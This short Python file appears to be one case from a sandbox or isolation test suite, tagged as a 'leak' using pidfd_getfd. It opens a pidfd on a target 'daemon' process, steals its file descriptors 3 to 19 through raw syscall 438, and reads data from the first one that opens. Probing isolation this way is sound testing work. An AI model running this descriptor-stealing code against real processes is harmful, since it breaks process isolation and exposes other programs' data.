# effect: leak
# note: pidfd_getfd
import ctypes
import platform

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long


def syscall(x86_64, aarch64, *args):
    number = {"x86_64": x86_64, "aarch64": aarch64}[platform.machine()]
    long = ctypes.c_long
    args = [long(a) if type(a) is int else a for a in args]
    return LIBC.syscall(long(number), *args)

def attempt(probe):
    import os

    handle = os.pidfd_open(probe["daemon"])
    for number in range(3, 20):
        made = syscall(438, 438, handle, number, 0)
        if made >= 0:
            try:
                return os.pread(made, 100, 0)
            except OSError:
                continue
